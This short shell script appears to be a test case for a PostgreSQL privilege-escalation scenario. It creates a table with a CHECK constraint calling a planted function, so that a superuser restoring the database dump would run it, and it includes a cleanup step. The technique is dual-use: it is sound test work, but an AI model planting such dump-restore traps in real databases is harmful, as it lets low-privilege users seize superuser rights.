# A table of MAS's database has a CHECK that takes the rights of whoever loads its dump.
fear=superuser
strike() {
  {
    trap_function public mas
    echo 'CREATE TABLE public.trapped (x integer CHECK (public.gain())); INSERT INTO public.trapped VALUES (1);'
  } | sql_as mas mas
}
clean() { sql mas <<< 'DROP TABLE IF EXISTS public.trapped; DROP FUNCTION IF EXISTS public.gain();'; }
